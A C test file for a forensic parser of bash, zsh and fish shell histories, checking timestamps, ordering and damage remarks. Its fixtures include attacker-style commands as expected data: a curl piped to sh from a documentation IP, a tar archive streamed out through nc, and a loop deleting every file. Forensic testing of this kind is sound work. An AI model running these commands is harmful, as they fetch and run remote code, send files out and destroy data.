/* test_artefact_shell_history.c - histories of bash, zsh and fish, with and without times. */
#include "tests/artefact_harness.h"

static void
bash_with_times(void **state)
{
	struct parsed p = { 0 };
	(void)state;
	parsed_file(&p, fixture("artefact/shell_history/.bash_history"));
	assert_number_equal(p.count, 3);
	/* a command before the first time has that of the file */
	assert_number_equal(p.events[0].time, parsed_time("2020-01-01T00:00:00Z"));
	assert_string_equal(p.events[0].meaning, "history last written");
	assert_number_equal(p.events[1].time, parsed_time("2023-11-14T22:13:20Z"));
	assert_non_null(strstr(p.events[1].data, "\"command\":\"curl http://203.0.113.9/x | sh\""));
	assert_non_null(strstr(p.events[2].data, "for f in *; do\\u000a  rm \\\"$f\\\"\\u000adone"));
	assert_number_equal(p.events[2].offset, 50);
	parsed_free(&p);
}

static void
commands_without_times_are_kept_in_order(void **state)
{
	struct parsed p = { 0 };
	char text[8000] = "";
	(void)state;
	for (int i = 1; i <= 250; i++)
		snprintf(text + strlen(text), 24, "command %d\n", i);
	parsed_bytes(&p, "/home/anna/.bash_history", text, strlen(text));
	assert_number_equal(p.count, 3);
	assert_string_equal(p.events[2].user, "anna");
	assert_non_null(strstr(p.events[1].data, "\"first_line\":101,\"last_line\":200,\"commands\":[\"command 101\","));
	assert_string_equal(p.events[2].message, "50 commands in the bash history of anna whose times are not known, the last: command 250");
	parsed_free(&p);
}

static void
zsh_and_fish(void **state)
{
	struct parsed p = { 0 };
	(void)state;
	parsed_file(&p, fixture("artefact/shell_history/.zsh_history"));
	assert_number_equal(p.count, 3);
	assert_non_null(strstr(p.events[1].data, "\"command\":\"tar cf - . \\\\\\u000a| nc 203.0.113.9 80\\u000aplain\",\"elapsed_seconds\":12"));
	parsed_free(&p);
	parsed_file(&p, fixture("artefact/shell_history/fish_history"));
	assert_number_equal(p.count, 2);
	assert_number_equal(p.events[1].time, parsed_time("2023-11-14T22:13:25Z"));
	assert_non_null(strstr(p.events[1].data, "\"command\":\"cp a b\""));
	parsed_free(&p);
}

static void
times_that_are_none_are_told(void **state)
{
	struct parsed p = { 0 };
	(void)state;
	parsed_file(&p, fixture("artefact/shell_history/damaged"));
	assert_number_equal(p.remark_count, 4);
	assert_string_equal(p.remarks[0].code, "time-damaged");
	assert_string_equal(p.remarks[2].code, "line-too-long");
	parsed_free(&p);
}

static void
the_corpus_is_read(void **state)
{
	static const struct { const char *path; size_t events; } files[] = { { "logs/bash_history", 4 }, { "logs/bash_history_desync", 5 },
		{ "logs/zsh_extended_history.txt", 4 } };
	(void)state;
	for (size_t i = 0; i < 3; i++) {
		struct parsed p = { 0 };
		const char *path = corpus_path(files[i].path);
		if (path == NULL)
			return;
		parsed_file(&p, path);
		assert_number_equal(p.count, files[i].events);
		parsed_free(&p);
	}
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(bash_with_times),
		cmocka_unit_test(commands_without_times_are_kept_in_order),
		cmocka_unit_test(zsh_and_fish),
		cmocka_unit_test(times_that_are_none_are_told),
		cmocka_unit_test(the_corpus_is_read),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
